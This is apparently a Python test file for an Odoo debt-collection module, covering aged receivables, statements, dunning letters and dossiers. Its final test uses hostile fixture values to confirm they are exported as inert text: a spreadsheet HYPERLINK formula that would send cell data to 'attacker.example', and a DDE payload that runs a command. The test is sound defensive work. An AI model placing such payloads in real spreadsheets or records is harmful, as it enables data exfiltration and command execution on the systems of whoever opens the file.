import io
from datetime import timedelta

import openpyxl
from lxml import html as lxml_html

from odoo import Command, fields
from odoo.exceptions import AccessError, UserError, ValidationError
from odoo.tests import Form, HttpCase, tagged
from odoo.tools.pdf import PdfReader

from .common import TODAY, CollectionCommon, day, on_day

LANG = "es_ES"


def text_of(document):
    """The visible text of a rendered HTML document, table cells apart, whitespace
    collapsed."""
    if isinstance(document, bytes):
        document = document.decode()
    tree = lxml_html.fromstring(document)
    for cell in tree.iter("td", "th"):
        cell.tail = " " + (cell.tail or "")
    # Odoo writes negative amounts with an invisible no-break character after the sign.
    return " ".join(tree.text_content().replace("\ufeff", "").split())


@tagged("post_install", "-at_install")
@on_day(TODAY)
class TestCollectionDocuments(CollectionCommon):
    """The documents of collections: aged receivables (view, PDF, XLSX), the statement
    of account, the dunning letter of each level and the collection dossier, in English
    and in Spanish, with the figures of a small hand-computed book."""

    @classmethod
    def setUpClass(cls):
        super().setUpClass()
        cls.company.collection_portfolio_restricted = True
        cls.collector_2 = cls.make_user(
            "collector_2", "account_collection.group_collection_user", name="Cody Collector"
        )
        cls.billing_user = cls.make_user(
            "billing", "account.group_account_invoice", name="Bea Billing"
        )
        cls.customer.with_company(cls.company).collection_user_id = cls.collector
        cls.other_customer = cls.env["res.partner"].create(
            {"name": "Bolt Industries", "is_company": True, "email": "bolt@example.com"}
        )
        cls.other_customer.with_company(cls.company).collection_user_id = cls.collector_2

        # Acme's book on 16 March 2026 (days overdue, aging bucket, open amount):
        #   INV A  1000 due 30 Jan, 400 paid on 6 Mar   45 days  31-60     600
        #   INV B   500 due 26 Mar                       not due  Not due   500
        #   INV C   300 due  6 Dec 2025                 100 days  91-120    300
        #   credit note 200, due 11 Mar                   5 days  1-30     -200
        #   payment 150 on 13 Mar, not matched            3 days  1-30     -150
        # Total due 1050, overdue 900 (credits do not reduce it), 100 days overdue.
        cls.inv_a = cls.invoice(cls.customer, 1000.0, day(-45))
        cls.payment_a = cls.pay(cls.inv_a, amount=400.0, pay_date=day(-10))
        cls.inv_b = cls.invoice(cls.customer, 500.0, day(10))
        cls.inv_c = cls.invoice(cls.customer, 300.0, day(-100))
        cls.refund = cls.invoice(cls.customer, 200.0, day(-5), move_type="out_refund")
        cls.payment_open = cls.customer_payment(cls.customer, 150.0, pay_date=day(-3))
        # Bolt (the other collector's customer): 700 due 24 Feb, 20 days, 1-30.
        cls.inv_d = cls.invoice(cls.other_customer, 700.0, day(-20))

        cls.buckets = cls.env["collection.aging.bucket"].search(
            [("company_id", "=", cls.company.id)]
        )
        names = dict(zip(cls.buckets.mapped("days_from"), cls.buckets, strict=True))
        cls.not_due, cls.b1_30, cls.b31_60, cls.b61_90, cls.b91_120, cls.over_120 = (
            names[0],
            names[1],
            names[31],
            names[61],
            names[91],
            names[121],
        )
        cls.Report = cls.env["collection.aged.receivable.report"]

    # ------------------------------------------------------------------
    # Helpers
    # ------------------------------------------------------------------

    def flush_tracking(self):
        """Record the tracked changes on the chatter, as the end of a transaction does."""
        self.env.flush_all()
        self.env.cr.precommit.run()

    def load_spanish(self):
        self.env["res.lang"]._activate_lang(LANG)
        self.env["ir.module.module"]._load_module_terms(
            ["account_collection"], [LANG], overwrite=True
        )

    def render(self, report_ref, records, user=None, lang=None, data=None):
        Report = self.env["ir.actions.report"]
        if user:
            Report = Report.with_user(user)
        if lang:
            Report = Report.with_context(lang=lang)
        content, _report_type = Report._render_qweb_html(report_ref, records.ids, data=data)
        return text_of(content)

    def aging_by_customer(self, user=None, domain=()):
        """What the pivot view shows: amount due per customer and bucket."""
        Report = self.Report.with_user(user) if user else self.Report
        return {
            (partner, bucket): amount
            for partner, bucket, amount in Report._read_group(
                list(domain), ["partner_id", "bucket_id"], ["amount_residual:sum"]
            )
        }

    def export(self, user, domain=()):
        return (
            self.env["collection.aged.receivable.export"]
            .with_user(user)
            .create({"domain": repr(list(domain))})
        )

    def workbook(self, export):
        return openpyxl.load_workbook(io.BytesIO(export._xlsx_content()))

    def sheet_rows(self, sheet, first_row=5):
        """The customer rows of the aged receivables sheet, by customer name, then the
        total row."""
        rows = {}
        for row in sheet.iter_rows(min_row=first_row, values_only=True):
            if row[0]:
                rows[row[0]] = row
        return rows

    # ------------------------------------------------------------------
    # Aged receivables
    # ------------------------------------------------------------------

    def test_aged_receivables_per_customer_and_bucket(self):
        """Every open item is in the bucket of its own due date, credits included, so a
        customer's row adds up to its total due."""
        aging = self.aging_by_customer(user=self.collection_manager)
        acme, bolt = self.customer, self.other_customer
        self.assertEqual(
            aging,
            {
                (acme, self.not_due): 500.0,
                (acme, self.b1_30): -350.0,
                (acme, self.b31_60): 600.0,
                (acme, self.b91_120): 300.0,
                (bolt, self.b1_30): 700.0,
            },
        )
        acme_total = sum(amount for (partner, _b), amount in aging.items() if partner == acme)
        self.assertEqual(acme_total, 1050.0)
        self.assertEqual(acme.with_company(self.company).collection_due_amount, acme_total)
        # The overdue measure is the worklist's Overdue: credits do not reduce it.
        [[overdue]] = self.Report.with_user(self.collection_manager)._read_group(
            [("partner_id", "=", acme.id)], [], ["amount_overdue:sum"]
        )
        self.assertEqual(overdue, 900.0)
        self.assertEqual(acme.with_company(self.company).collection_overdue_amount, 900.0)

    def test_aged_receivables_pivot_cells_open_their_items(self):
        """The pivot's cells, customer rows, bucket columns and total as the web client
        reads them: each named, and each opening exactly the items it adds up."""
        Report = self.Report.with_user(self.collection_manager)
        cells, customers, buckets, [total] = Report.formatted_read_grouping_sets(
            [],
            [["partner_id", "bucket_id"], ["partner_id"], ["bucket_id"], []],
            ["amount_residual:sum"],
        )
        acme, bolt = self.customer, self.other_customer

        def name(record):
            return (record.id, record.display_name)

        self.assertEqual(
            [
                (cell["partner_id"], cell["bucket_id"], cell["amount_residual:sum"])
                for cell in cells
            ],
            [
                (name(acme), name(self.not_due), 500.0),
                (name(acme), name(self.b1_30), -350.0),
                (name(acme), name(self.b31_60), 600.0),
                (name(acme), name(self.b91_120), 300.0),
                (name(bolt), name(self.b1_30), 700.0),
            ],
        )
        self.assertEqual(
            cells[1]["__extra_domain"],
            ["&", ("partner_id", "=", acme.id), ("bucket_id", "=", self.b1_30.id)],
        )
        self.assertEqual(
            [(row["partner_id"], row["amount_residual:sum"]) for row in customers],
            [(name(acme), 1050.0), (name(bolt), 700.0)],
        )
        self.assertEqual(customers[1]["__extra_domain"], [("partner_id", "=", bolt.id)])
        self.assertEqual(
            [(column["bucket_id"], column["amount_residual:sum"]) for column in buckets],
            [
                (name(self.not_due), 500.0),
                (name(self.b1_30), 350.0),
                (name(self.b31_60), 600.0),
                (name(self.b91_120), 300.0),
            ],
        )
        self.assertEqual(total["amount_residual:sum"], 1750.0)
        for group in cells + customers + buckets:
            items = Report.search(group["__extra_domain"])
            self.assertEqual(sum(items.mapped("amount_residual")), group["amount_residual:sum"])
        drilled = Report.search(cells[1]["__extra_domain"])
        self.assertEqual(drilled.move_id, self.refund | self.payment_open.move_id)

    def test_aged_receivables_follow_the_ledger(self):
        """A payment shows in the aged receivables at once."""
        self.pay(self.inv_c)
        aging = self.aging_by_customer(user=self.collection_manager)
        self.assertNotIn((self.customer, self.b91_120), aging)

    def test_aged_receivables_drill_down_to_the_invoice(self):
        item = self.Report.with_user(self.collector).search([("move_id", "=", self.inv_c.id)])
        self.assertEqual(item.days_overdue, 100)
        self.assertEqual(item.bucket_id, self.b91_120)
        self.assertEqual(item.user_id, self.collector)
        action = item.action_open_document()
        self.assertEqual((action["res_model"], action["res_id"]), ("account.move", self.inv_c.id))

    def test_aged_receivables_pdf(self):
        export = self.export(self.collection_manager)
        text = self.render("account_collection.action_report_collection_aged_receivable", export)
        self.assertIn("Aged Receivables", text)
        for bucket in self.buckets:
            self.assertIn(bucket.name, text)
        self.assertIn(
            "Acme Customer Carla Collector $ 500.00 $ -350.00 $ 600.00 $ 0.00 $ 300.00 "
            "$ 0.00 $ 1,050.00",
            text,
        )
        self.assertIn("Bolt Industries Cody Collector $ 0.00 $ 700.00", text)
        # Totals per bucket and grand total.
        self.assertIn("Total $ 500.00 $ 350.00 $ 600.00 $ 0.00 $ 300.00 $ 0.00 $ 1,750.00", text)

    def test_aged_receivables_pdf_in_spanish(self):
        self.load_spanish()
        manager = self.collection_manager
        manager.lang = LANG
        export = self.export(manager)
        text = self.render(
            "account_collection.action_report_collection_aged_receivable", export, lang=LANG
        )
        self.assertIn("Por vencer", text)  # the first bucket, in Spanish
        self.assertIn("1.050,00", text)
        self.assertIn("1.750,00", text)
        self.assertIn("16/03/2026", text)

    def test_aged_receivables_xlsx_matches_the_view(self):
        export = self.export(self.collection_manager)
        book = self.workbook(export)
        sheet = book.worksheets[0]
        header = [cell.value for cell in sheet[4]]
        self.assertEqual(header, ["Customer", "Collector", *self.buckets.mapped("name"), "Total"])
        rows = self.sheet_rows(sheet)
        aging = self.aging_by_customer(user=self.collection_manager)
        for partner in (self.customer, self.other_customer):
            row = rows[partner.display_name]
            expected = [aging.get((partner, bucket), 0.0) for bucket in self.buckets]
            self.assertEqual(list(row[2:-1]), expected)
            self.assertEqual(row[-1], sum(expected))
        self.assertEqual(rows["Acme Customer"][1], "Carla Collector")
        self.assertEqual(list(rows["Total"][2:]), [500.0, 350.0, 600.0, 0.0, 300.0, 0.0, 1750.0])
        # The items behind the figures.
        items = book.worksheets[1]
        amounts = sorted(row[6] for row in items.iter_rows(min_row=2, values_only=True))
        self.assertEqual(amounts, [-200.0, -150.0, 300.0, 500.0, 600.0, 700.0])

    def test_aged_receivables_export_keeps_the_view_filters(self):
        """Printing from the list exports what the list shows: its filters, or the
        selected items."""
        Report = self.Report.with_user(self.collection_manager)
        action = Report.with_context(
            active_domain=[("partner_id", "=", self.other_customer.id)]
        ).action_export_xlsx()
        export = (
            self.env["collection.aged.receivable.export"]
            .with_user(self.collection_manager)
            .search([], order="id desc", limit=1)
        )
        self.assertEqual(action["url"], f"/account_collection/aged_receivables/{export.id}/xlsx")
        rows = self.sheet_rows(self.workbook(export).worksheets[0])
        self.assertEqual(set(rows), {"Bolt Industries", "Total"})

        selected = Report.search([("move_id", "in", (self.inv_a | self.inv_c).ids)])
        action = selected.action_print_pdf()
        self.assertEqual(
            action["report_name"], "account_collection.report_collection_aged_receivable"
        )
        export = (
            self.env["collection.aged.receivable.export"]
            .with_user(self.collection_manager)
            .browse(action["context"]["active_ids"])
        )
        text = self.render("account_collection.action_report_collection_aged_receivable", export)
        self.assertIn("Total $ 0.00 $ 0.00 $ 600.00 $ 0.00 $ 300.00 $ 0.00 $ 900.00", text)

        with self.assertRaises(ValidationError):
            self.export(self.collection_manager, [("no_such_field", "=", 1)])

    def test_collector_sees_and_exports_only_their_portfolio(self):
        aging = self.aging_by_customer(user=self.collector)
        self.assertEqual({partner for partner, _bucket in aging}, {self.customer})

        export = self.export(self.collector)
        rows = self.sheet_rows(self.workbook(export).worksheets[0])
        self.assertEqual(set(rows), {"Acme Customer", "Total"})
        self.assertEqual(rows["Total"][-1], 1050.0)
        text = self.render(
            "account_collection.action_report_collection_aged_receivable",
            export,
            user=self.collector,
        )
        self.assertNotIn("Bolt Industries", text)

        # Asking for another collector's customer gives nothing.
        export = self.export(self.collector, [("partner_id", "=", self.other_customer.id)])
        rows = self.sheet_rows(self.workbook(export).worksheets[0])
        self.assertEqual(list(rows), ["Total"])
        self.assertEqual(rows["Total"][-1], 0.0)

        # Nor can they download the export of someone else.
        manager_export = self.export(self.collection_manager)
        with self.assertRaises(AccessError):
            manager_export.with_user(self.collector).check_access("read")

        # Without the restriction, collectors see every customer.
        self.company.collection_portfolio_restricted = False
        aging = self.aging_by_customer(user=self.collector)
        self.assertEqual(
            {partner for partner, _bucket in aging}, {self.customer, self.other_customer}
        )

    def test_billing_user_reads_every_customer(self):
        aging = self.aging_by_customer(user=self.billing_user)
        self.assertEqual(
            {partner for partner, _bucket in aging}, {self.customer, self.other_customer}
        )

    # ------------------------------------------------------------------
    # Statement of account
    # ------------------------------------------------------------------

    def test_statement(self):
        text = self.render(
            "account_collection.action_report_collection_statement",
            self.customer,
            user=self.collector,
        )
        self.assertIn("Statement of Account", text)
        self.assertIn("Total Due $ 1,050.00 Overdue $ 900.00", text)
        # Open items, oldest due first, with days overdue, original and open amounts.
        self.assertIn(f"{self.inv_c.name} 11/06/2025 12/06/2025 100 $ 300.00 $ 300.00 Pay", text)
        self.assertIn(f"{self.inv_a.name} 12/31/2025 01/30/2026 45 $ 1,000.00 $ 600.00 Pay", text)
        self.assertIn(f"{self.refund.name} 02/09/2026 03/11/2026 5 $ -200.00 $ -200.00", text)
        self.assertIn(f"{self.inv_b.name} 02/24/2026 03/26/2026 $ 500.00 $ 500.00 Pay", text)
        # Payments of the last 30 days: the one matched with INV A and the one on account.
        self.assertIn("Payments Received from 02/14/2026 to 03/16/2026", text)
        self.assertIn(f"03/06/2026 {self.payment_a.move_id.name}", text)
        self.assertIn(f"03/13/2026 {self.payment_open.move_id.name}", text)
        self.assertIn("Total Received $ 550.00", text)
        # Aging and the way to pay.
        self.assertIn("$ 500.00 $ -350.00 $ 600.00 $ 0.00 $ 300.00 $ 0.00 $ 1,050.00", text)
        self.assertIn("/my/invoices", text)

    def test_statement_links_to_pay_each_invoice(self):
        content, _type = (
            self.env["ir.actions.report"]
            .with_user(self.collector)
            ._render_qweb_html(
                "account_collection.action_report_collection_statement", self.customer.ids
            )
        )
        links = lxml_html.fromstring(content.decode()).xpath("//a[text()='Pay']/@href")
        base_url = self.customer.get_base_url()
        self.assertEqual(
            sorted(links),
            sorted(
                f"{base_url}/my/invoices/{move.id}?access_token={move.access_token}"
                for move in (self.inv_a, self.inv_b, self.inv_c)
            ),
        )

    def test_statement_in_spanish(self):
        self.load_spanish()
        self.customer.lang = LANG
        text = self.render("account_collection.action_report_collection_statement", self.customer)
        self.assertIn("1.050,00", text)
        self.assertIn("16/03/2026", text)  # today, day first
        self.assertIn(f"{self.inv_c.name} 06/11/2025 06/12/2025 100", text)
        self.assertIn("Por vencer", text)  # aging bucket
        self.assertNotIn("1,050.00", text)

    def test_statement_pdf_for_a_period(self):
        """The dunning engine gets the statement of a period as a file."""
        statement = self.customer.with_user(self.collector)._collection_statement_pdf(
            day(-5), TODAY
        )
        text = text_of(statement)
        self.assertIn("Payments Received from 03/11/2026 to 03/16/2026", text)
        self.assertIn(self.payment_open.move_id.name, text)
        self.assertNotIn(self.payment_a.move_id.name, text)
        self.assertIn("Total Received $ 150.00", text)
        with self.assertRaises(UserError):
            self.customer._collection_statement_pdf(TODAY, day(-5))

    def test_send_statement_from_the_customer_form(self):
        """A collector sends the statement by email: the customer gets it with the PDF,
        and it stays on the customer's chatter."""
        action = self.customer.with_user(self.collector).action_collection_send_statement()
        self.assertEqual(action["res_model"], "mail.compose.message")
        composer = Form(
            self.env["mail.compose.message"]
            .with_user(self.collector)
            .with_context(action["context"])
        )
        self.assertEqual(composer.subject, f"{self.company.name}: statement of account")
        self.assertIn("1,050.00", composer.body)
        composer.save()._action_send_mail()
        message = self.customer.message_ids[0]
        self.assertEqual(message.author_id, self.collector.partner_id)
        self.assertEqual(message.partner_ids, self.customer)
        # Tests render reports as HTML instead of PDF, hence any extension.
        [attachment] = message.attachment_ids
        self.assertTrue(attachment.name.startswith("Statement of account - Acme Customer."))
        self.assertIn("Total Due $ 1,050.00", text_of(attachment.raw))

    def test_statement_of_another_portfolio(self):
        """A collector restricted to a portfolio sends and prints the statements of
        their customers only, and writes only on their customers' chatter."""
        other = self.other_customer.with_user(self.collector)
        with self.assertRaises(AccessError):
            other.action_collection_send_statement()
        with self.assertRaises(AccessError):
            other.action_collection_print_statement()
        with self.assertRaises(AccessError):
            other.message_post(body="Hello")
        message = self.customer.with_user(self.collector).message_post(body="Hello")
        self.assertEqual(message.author_id, self.collector.partner_id)

    def test_send_statement_needs_an_email(self):
        self.customer.email = False
        with self.assertRaises(UserError):
            self.customer.with_user(self.collector).action_collection_send_statement()

    def test_statement_needs_collections_or_billing(self):
        employee = self.make_user("employee", "base.group_user")
        with self.assertRaises(AccessError):
            self.render(
                "account_collection.action_report_collection_statement",
                self.customer,
                user=employee,
            )
        text = self.render(
            "account_collection.action_report_collection_statement",
            self.customer,
            user=self.billing_user,
        )
        self.assertIn("Total Due $ 1,050.00", text)

    # ------------------------------------------------------------------
    # Dunning letters
    # ------------------------------------------------------------------

    def letter_policy(self):
        """A policy of the company with the two letter levels of the shipped policy."""
        # sudo: the shipped policy belongs to the main company.
        shipped_15 = self.env.ref("account_collection.collection_level_15").sudo()
        shipped_30 = self.env.ref("account_collection.collection_level_30").sudo()
        policy = self.env["collection.policy"].create(
            {
                "name": "Letters",
                "company_id": self.company.id,
                "level_ids": [
                    Command.create(
                        {
                            "name": level.name,
                            "delay": level.delay,
                            "send_letter": True,
                            "letter_body": level.letter_body,
                        }
                    )
                    for level in (shipped_15, shipped_30)
                ],
            }
        )
        return policy.level_ids.sorted("delay")

    def reminder(self, level):
        """The reminder the engine creates for Acme's overdue invoices at ``level``."""
        Dunning = self.env["collection.dunning"].with_company(self.company)
        moves = self.inv_a | self.inv_c
        plan = {self.customer.id: {"level": level, "moves": dict.fromkeys(moves.ids, level.id)}}
        return Dunning._create_from_plan(self.company, TODAY, plan)

    def test_shipped_letters_get_firmer(self):
        shipped_15 = self.env.ref("account_collection.collection_level_15").sudo()
        shipped_30 = self.env.ref("account_collection.collection_level_30").sudo()
        self.assertIn("despite our previous reminders", shipped_15.letter_body)
        self.assertNotIn("formal notice", shipped_15.letter_body)
        self.assertIn(
            "formal notice to pay the amount overdue within eight days", shipped_30.letter_body
        )

    def test_letter_per_level(self):
        level_15, level_30 = self.letter_policy()
        letter_15 = self.render(
            "account_collection.action_report_collection_letter", self.reminder(level_15)
        )
        letter_30 = self.render(
            "account_collection.action_report_collection_letter", self.reminder(level_30)
        )
        for letter in (letter_15, letter_30):
            self.assertIn("Dear Acme Customer,", letter)
            self.assertIn(
                "The amount overdue is $ 900.00, the oldest amount overdue by 100 days.", letter
            )
            self.assertIn(f"{self.inv_c.name} 11/06/2025 12/06/2025 100 $ 300.00 $ 300.00", letter)
            self.assertIn(f"{self.inv_a.name} 12/31/2025 01/30/2026 45 $ 1,000.00 $ 600.00", letter)
            self.assertIn("your contact is Carla Collector", letter)
        self.assertIn("Second reminder", letter_15)
        self.assertNotIn("formal notice", letter_15)
        self.assertIn("Formal notice", letter_30)
        self.assertIn(
            "This letter is a formal notice to pay the amount overdue within eight days", letter_30
        )

    def test_letter_without_text_says_the_standard_text(self):
        level_15, _level_30 = self.letter_policy()
        level_15.letter_body = False
        letter = self.render(
            "account_collection.action_report_collection_letter", self.reminder(level_15)
        )
        self.assertIn("According to our records, the invoices listed below remain unpaid.", letter)

    def test_letter_in_spanish(self):
        self.load_spanish()
        self.customer.lang = LANG
        _level_15, level_30 = self.letter_policy()
        level_30.update_field_translations(
            "letter_body",
            {
                LANG: {
                    "Despite our previous reminders, the invoices listed below remain unpaid.": (
                        "Pese a nuestros recordatorios, las facturas siguientes siguen impagadas."
                    ),
                }
            },
        )
        level_30.with_context(lang=LANG).name = "Requerimiento formal"
        letter = self.render(
            "account_collection.action_report_collection_letter", self.reminder(level_30)
        )
        self.assertIn("Requerimiento formal", letter)
        self.assertIn(
            "Pese a nuestros recordatorios, las facturas siguientes siguen impagadas.", letter
        )
        self.assertNotIn("Despite our previous reminders", letter)
        self.assertIn("900,00", letter)
        self.assertIn(f"{self.inv_c.name} 06/11/2025 06/12/2025 100", letter)

    # ------------------------------------------------------------------
    # Collection dossier
    # ------------------------------------------------------------------

    def build_history(self):
        """A call logged by the collector, a promise, a status change and a reminder,
        with the chatter tracking the changes (the test environment turns it off)."""
        env = self.env(
            context={
                key: value
                for key, value in self.env.context.items()
                if key not in ("tracking_disable", "mail_notrack")
            }
        )
        self.flush_tracking()  # forget the set-up, made without tracking
        env["collection.interaction"].with_user(self.collector).create(
            {
                "partner_id": self.customer.id,
                "channel": "call",
                "outcome": "contacted",
                "note": "Will pay INV C on Friday",
                "move_ids": [Command.set(self.inv_c.ids)],
            }
        )
        env["collection.promise"].with_user(self.collector).create(
            {
                "partner_id": self.customer.id,
                "amount": 300.0,
                "date": day(4),
                "move_ids": [Command.set(self.inv_c.ids)],
            }
        )
        self.flush_tracking()
        self.customer.with_env(env).with_company(self.company).collection_status = "negotiating"
        self.flush_tracking()
        level_15, _level_30 = self.letter_policy()
        self.reminder(level_15)

    def test_dossier(self):
        self.build_history()
        text = self.render(
            "account_collection.action_report_collection_dossier",
            self.customer,
            user=self.collection_manager,
        )
        self.assertIn("Collection Dossier: Acme Customer", text)
        # The call, with the collector and the figures of that moment.
        self.assertIn("Carla Collector Call Contacted", text)
        self.assertIn("$ 900.00 100", text)
        self.assertIn(self.inv_c.name, text)
        self.assertIn("Will pay INV C on Friday", text)
        # The reminder and its letter.
        self.assertIn("03/16/2026 Second reminder Carla Collector To Review $ 900.00 100", text)
        self.assertIn("Letter: To Review", text)
        # The promise.
        self.assertIn("03/16/2026 Carla Collector $ 300.00 03/20/2026 $ 0.00 Open", text)
        # The status changes: the promise, then a manager.
        self.assertIn("Collection Status Current Paying", text)
        self.assertIn("Collection Status Paying Negotiating", text)

    def test_dossier_in_spanish(self):
        self.build_history()
        self.load_spanish()
        self.customer.lang = LANG
        text = self.render(
            "account_collection.action_report_collection_dossier",
            self.customer,
            user=self.collection_manager,
        )
        self.assertIn("Estado de cobranza", text)  # the field label
        self.assertIn("Negociando", text)  # the status, recorded in English
        self.assertIn("Llamada", text)
        self.assertIn("900,00", text)
        self.assertNotIn("Negotiating", text)

    def test_dossier_is_for_collection_managers(self):
        with self.assertRaises(AccessError):
            self.render(
                "account_collection.action_report_collection_dossier",
                self.customer,
                user=self.collector,
            )
        with self.assertRaises(AccessError):
            self.customer.with_user(self.collector).action_collection_print_dossier()
        action = self.customer.with_user(self.collection_manager).action_collection_print_dossier()
        self.assertEqual(action["report_name"], "account_collection.report_collection_dossier")


@tagged("post_install", "-at_install")
class TestCollectionDocumentsHttp(CollectionCommon, HttpCase):
    """The files as a browser gets them: a real PDF through wkhtmltopdf, and the aged
    receivables workbook from its download route, for its author only. The server
    runs on the real date: the book is built around it."""

    def setUp(self):
        super().setUp()
        self.company.collection_portfolio_restricted = True
        self.collector_2 = self.make_user("collector_2", "account_collection.group_collection_user")
        today = fields.Date.context_today(self.customer.with_user(self.collector))
        self.customer.with_company(self.company).collection_user_id = self.collector
        self.acme_invoice = self.invoice(self.customer, 1000.0, today - timedelta(days=45))
        self.other_customer = self.env["res.partner"].create(
            {"name": "Bolt Industries", "is_company": True}
        )
        self.other_customer.with_company(self.company).collection_user_id = self.collector_2
        self.invoice(self.other_customer, 700.0, today - timedelta(days=20))

    def pdf(self, report_ref, records, user):
        content, report_type = (
            self.env["ir.actions.report"]
            .with_user(user)
            .with_context(force_report_rendering=True)
            ._render_qweb_pdf(report_ref, records.ids)
        )
        self.assertEqual(report_type, "pdf")
        self.assertTrue(content.startswith(b"%PDF"))
        return PdfReader(io.BytesIO(content))

    def test_statement_is_a_real_pdf(self):
        """wkhtmltopdf prints the statement on A4, with links to pay that work."""
        invoice = self.acme_invoice
        pdf = self.pdf(
            "account_collection.action_report_collection_statement", self.customer, self.collector
        )
        [page] = pdf.pages
        self.assertEqual([round(float(x)) for x in page.mediabox], [0, 0, 595, 842])  # A4 portrait
        links = {
            annotation.get_object()["/A"]["/URI"]
            for annotation in page.get("/Annots", [])
            if "/A" in annotation.get_object()
        }
        base_url = self.customer.get_base_url()
        self.assertEqual(
            links,
            {
                f"{base_url}/my/invoices/{invoice.id}?access_token={invoice.access_token}",
                f"{base_url}/my/invoices",
            },
        )
        # The engine's entry point gives the same file.
        self.assertTrue(
            self.customer.with_user(self.collector)
            .with_context(force_report_rendering=True)
            ._collection_statement_pdf()
            .startswith(b"%PDF")
        )

    def test_aged_receivables_pdf_is_landscape(self):
        export = (
            self.env["collection.aged.receivable.export"]
            .with_user(self.collector)
            .create({"domain": "[]"})
        )
        pdf = self.pdf(
            "account_collection.action_report_collection_aged_receivable", export, self.collector
        )
        [page] = pdf.pages
        self.assertEqual([round(float(x)) for x in page.mediabox], [0, 0, 842, 595])

    def test_aged_receivables_download(self):
        Export = self.env["collection.aged.receivable.export"]
        export = Export.with_user(self.collector).create({"domain": "[]"})
        url = export.with_user(self.collector).action_export_xlsx()["url"]
        self.authenticate(self.collector.login, self.collector.login)
        response = self.url_open(url)
        self.assertEqual(response.status_code, 200)
        self.assertEqual(
            response.headers["Content-Type"],
            "application/vnd.openxmlformats-officedocument.spreadsheetml.sheet",
        )
        self.assertIn("attachment", response.headers["Content-Disposition"])
        sheet = openpyxl.load_workbook(io.BytesIO(response.content)).worksheets[0]
        customers = [row[0] for row in sheet.iter_rows(min_row=5, values_only=True) if row[0]]
        self.assertEqual(customers, ["Acme Customer", "Total"])

        # Another user's export, or one that does not exist, cannot be downloaded.
        manager_export = Export.with_user(self.collection_manager).create({"domain": "[]"})
        response = self.url_open(f"/account_collection/aged_receivables/{manager_export.id}/xlsx")
        self.assertEqual(response.status_code, 403)
        response = self.url_open("/account_collection/aged_receivables/999999/xlsx")
        self.assertEqual(response.status_code, 404)

    def test_aged_receivables_download_writes_names_as_text(self):
        """A customer, a collector or a document named like a formula (=, +, -, @) or a
        link is written as text: the manager's spreadsheet computes nothing of it."""
        names = {
            "customer": '=HYPERLINK("http://attacker.example/?d="&A1,"Open")',
            "collector": "+cmd|' /C calc'!A0",
        }
        self.customer.name = names["customer"]
        self.collector.name = names["collector"]
        self.other_customer.name = "-2+3"
        self.other_customer.with_company(self.company).collection_user_id = self.collector
        self.third = self.env["res.partner"].create(
            {"name": "http://attacker.example/", "is_company": True}
        )
        self.third.with_company(self.company).collection_user_id = self.collector
        self.invoice(self.third, 50.0, fields.Date.context_today(self.third) - timedelta(days=3))
        export = (
            self.env["collection.aged.receivable.export"]
            .with_user(self.collector)
            .create({"domain": "[]"})
        )
        self.authenticate(self.collector.login, self.collector.login)
        response = self.url_open(export.with_user(self.collector).action_export_xlsx()["url"])
        self.assertEqual(response.status_code, 200)
        book = openpyxl.load_workbook(io.BytesIO(response.content))
        summary, items = book.worksheets
        cells = [
            cell
            for sheet, column in ((summary, "A"), (summary, "B"), (items, "A"))
            for cell in sheet[column]
            if isinstance(cell.value, str) and cell.value[:1] in "=+-@h"
        ]
        self.assertEqual(
            sorted({cell.value for cell in cells}),
            sorted([names["customer"], names["collector"], "-2+3", "http://attacker.example/"]),
        )
        for cell in cells:
            with self.subTest(cell.coordinate):
                self.assertEqual(cell.data_type, "s", f"{cell.value!r} is written as text")
                self.assertIsNone(cell.hyperlink)
